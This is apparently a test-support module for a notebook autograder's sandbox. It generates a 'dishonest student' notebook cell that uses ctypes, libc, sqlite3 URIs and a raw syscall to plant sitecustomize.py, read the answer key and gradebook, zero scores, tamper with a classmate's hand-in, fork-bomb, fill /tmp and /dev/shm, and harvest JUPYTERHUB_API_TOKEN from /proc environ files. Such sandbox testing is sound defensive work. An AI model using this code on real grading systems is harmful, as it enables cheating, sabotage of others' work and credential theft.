"""A dishonest student's hand-in, in C-level form: libc through ctypes, sqlite3 URIs and a raw syscall, none of which a
Python audit hook sees. Each attack of issue 57's table prints one line, `ATTACK <name>: ok ...` where it reached
what it aimed at and `ATTACK <name>: refused ...` where it did not, into the graded notebook's output. The tests
(tests/test_box.py, tests/test_hub_box.py) read those lines and check the files the attacks aimed at."""
from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import nbformat

TOKEN = "tfs-attack-57"  # names the attacks' own files, so a test can look for them anywhere
ATTACKS = ["whoami", "sitecustomize", "nbgrader_config", "read_source", "read_reference", "read_gradebook_uri",
           "update_gradebook", "update_queue", "list_hand_ins", "append_to_classmate", "fork_many", "fill_tmp",
           "fill_shm", "raw_syscall_open", "read_secrets"]
# What the grader's environment may hold that opens something else (the hub's API token, given to its services and
# servers, an LMS key an instructor exported): the tests put SECRET_VALUE into the grading run's environment under
# these names, and the attack looks for any of them, in its own environment and in every process's it can see.
SECRET_NAMES = ("JUPYTERHUB_API_TOKEN", "LMS_CLIENT_SECRET")
SECRET_VALUE = "tfs-attack-57-secret"


def attack_code(targets: dict[str, str]) -> str:
    """The cell that attacks the files `targets` names (course root, a classmate's hand-in, the queue, inbound/)."""
    return f'''
import ctypes, errno as _errno, os as _os, sqlite3 as _sqlite3
_libc = ctypes.CDLL(None, use_errno=True)
_T = {json.dumps(targets)}
def _say(name, reached, detail=""):
    print(f"ATTACK {{name}}: {{'ok' if reached else 'refused'}} {{detail}}")
def _err():
    number = ctypes.get_errno()
    return f"errno {{number}} ({{_errno.errorcode.get(number, '?')}})"
def _c_write(path, data, flags):
    fd = _libc.open(path.encode(), flags, 0o644)
    if fd < 0:
        return False, _err()
    written = _libc.write(fd, data, len(data))
    _libc.close(fd)
    return written == len(data), f"wrote {{written}} bytes"
def _c_read(path):
    fd = _libc.open(path.encode(), _os.O_RDONLY, 0)
    if fd < 0:
        return False, _err()
    buffer = ctypes.create_string_buffer(64)
    count = _libc.read(fd, buffer, 64)
    _libc.close(fd)
    return count > 0, repr(buffer.raw[:max(count, 0)])
_map = [[int(n) for n in line.split()] for line in open("/proc/self/uid_map").read().splitlines()]
_host = next((outer + _os.getuid() - inner for inner, outer, count in _map if inner <= _os.getuid() < inner + count), -1)
_say("whoami", _host == 0, f"uid {{_os.getuid()}} host uid {{_host}} uid_map {{[n for line in _map for n in line]}}")
_say("sitecustomize", *_c_write(_T["root"] + "/sitecustomize.py", b"import os  # {TOKEN}\\n",
                               _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC))
_say("nbgrader_config", *_c_write(_T["root"] + "/nbgrader_config.py", b"\\n# {TOKEN}\\n", _os.O_WRONLY | _os.O_APPEND))
_say("read_source", *_c_read(_T["root"] + "/source/03_masking/03_masking.ipynb"))
_say("read_reference", *_c_read(_T["root"] + "/autograder/authoring/reference/attention.py"))
try:
    _rows = _sqlite3.connect("file:" + _T["root"] + "/gradebook.db?mode=ro", uri=True).execute(
        "select id from student").fetchall()
    _say("read_gradebook_uri", True, repr(_rows[:3]))
except Exception as _e:
    _say("read_gradebook_uri", False, repr(_e))
for _name, _path, _sql in (("update_gradebook", _T["root"] + "/gradebook.db", "update grade set manual_score = 0"),
                           ("update_queue", _T["queue"], "update handins set score = 0")):
    try:
        _db = _sqlite3.connect("file:" + _path + "?mode=rw", uri=True)
        _db.execute(_sql)
        _db.commit()
        _say(_name, True, "updated")
    except Exception as _e:
        _say(_name, False, repr(_e))
class _Dirent(ctypes.Structure):  # glibc's struct dirent on 64-bit Linux
    _fields_ = [("d_ino", ctypes.c_uint64), ("d_off", ctypes.c_int64), ("d_reclen", ctypes.c_ushort),
                ("d_type", ctypes.c_ubyte), ("d_name", ctypes.c_char * 256)]
_libc.opendir.restype = ctypes.c_void_p
_libc.readdir.restype = ctypes.POINTER(_Dirent)
_libc.readdir.argtypes = _libc.closedir.argtypes = [ctypes.c_void_p]
_listed, _saw_others = [], False
for _folder in (_T["root"] + "/submitted", _T["root"] + "/autograded", _T["inbound"]):
    _dir = _libc.opendir(_folder.encode())
    if not _dir:
        _listed.append(f"{{_folder}}: {{_err()}}")
        continue
    _names = []
    while True:
        _entry = _libc.readdir(_dir)
        if not _entry:
            break
        _names.append(_entry.contents.d_name.decode(errors="replace"))
    _libc.closedir(_dir)
    _others = sorted(set(_names) - {{".", "..", _T["self"]}})
    _saw_others = _saw_others or bool(_others)
    _listed.append(f"{{_folder}}: {{_others[:5] or 'nothing but its own'}}")
_say("list_hand_ins", _saw_others, "; ".join(_listed))
_say("append_to_classmate", *_c_write(_T["classmate"], b" ", _os.O_WRONLY | _os.O_APPEND))
_children = []
for _ in range(300):
    _pid = _libc.fork()
    if _pid == 0:
        _libc.pause()  # (a child of a threaded kernel may hang here on Python's lock instead: the same to the box)
        _libc._exit(0)
    if _pid < 0:
        break
    _children.append(_pid)
_say("fork_many", len(_children) >= 300, f"forked {{len(_children)}} ({{_err() if len(_children) < 300 else 'all'}})")
for _pid in _children[3:]:  # three are left to grading's end (in the kernel's group: its end ends them); the rest go
    _libc.kill(_pid, 9)
    _libc.waitpid(_pid, None, 0)
for _name, _path, _megabytes in (("fill_tmp", "/tmp/{TOKEN}", 600), ("fill_shm", "/dev/shm/{TOKEN}", 300)):
    _fd = _libc.open(_path.encode(), _os.O_WRONLY | _os.O_CREAT, 0o644)
    _written, _chunk = 0, b"x" * (1 << 20)
    while _fd >= 0 and _written < _megabytes:
        if _libc.write(_fd, _chunk, len(_chunk)) != len(_chunk):
            break
        _written += 1
    _detail = "all" if _written >= _megabytes else (_err() if _fd < 0 else "a short write: the file system is full")
    _libc.close(_fd)
    _say(_name, _written >= _megabytes, f"{{_written}} MiB of {{_megabytes}} ({{_detail}})")
_SYS_openat, _AT_FDCWD = 257, -100
_libc.syscall.restype = ctypes.c_long
_fd = _libc.syscall(_SYS_openat, _AT_FDCWD, (_T["root"] + "/gradebook.db").encode(), _os.O_RDONLY)
_say("raw_syscall_open", _fd >= 0, f"fd {{_fd}}" if _fd >= 0 else _err())
_libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: its own /proc files readable again after the box dropped its user
_secrets = {{name for name in _os.environ if name in {list(SECRET_NAMES)!r}}}
_buffer = ctypes.create_string_buffer(1 << 20)
for _pid in ["self", *[name for name in _os.listdir("/proc") if name.isdigit()]]:
    _fd = _libc.open(f"/proc/{{_pid}}/environ".encode(), _os.O_RDONLY, 0)
    if _fd < 0:
        continue
    _count = _libc.read(_fd, _buffer, len(_buffer))
    _libc.close(_fd)
    _secrets |= {{name for name in {list(SECRET_NAMES)!r} if (name + "=").encode() in _buffer.raw[:max(_count, 0)]}}
_say("read_secrets", bool(_secrets), f"found {{sorted(_secrets)}}" if _secrets else "none in any environment it sees")
'''


def hand_in_attack(release: Path, source: Path, target: Path, targets: dict[str, str]) -> None:
    """Write a correct hand-in of 02_attention at `target` with the attacks appended to its first solution cell."""
    from autograder.demo.submissions import write_submission
    write_submission("demo_perfect", release, source, target)
    notebook = nbformat.read(target, as_version=4)
    first = next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("solution"))
    first.source += "\n\n" + attack_code(targets)
    nbformat.write(notebook, target)


def outcomes(autograded: Path) -> dict[str, str]:
    """Each attack's line in the graded notebook's output: name -> "ok ..." or "refused ..."."""
    found = {}
    for cell in nbformat.read(autograded, as_version=4).cells:
        for output in cell.get("outputs", []):
            for match in re.finditer(r"^ATTACK (\w+): (.*)$", output.get("text", ""), re.M):
                found[match[1]] = match[2]
    return found


def host_uid(said: str) -> int:
    """The host's number for the kernel's user, from the whoami attack's line ("refused uid 1000 host uid N ...")."""
    return int(said.split("host uid ")[1].split()[0])


def digest(folder: Path, leave_out: tuple[str, ...] = ()) -> dict[str, str]:
    """Every file under `folder` with its SHA-256, but those under `leave_out` (paths relative to it) and Python's
    bytecode caches (the grader's own, written as it imports)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder).as_posix()
        if path.is_file() and not path.is_symlink() and "__pycache__" not in path.parts and not any(
                relative == part or relative.startswith(part + "/") for part in leave_out):
            found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found
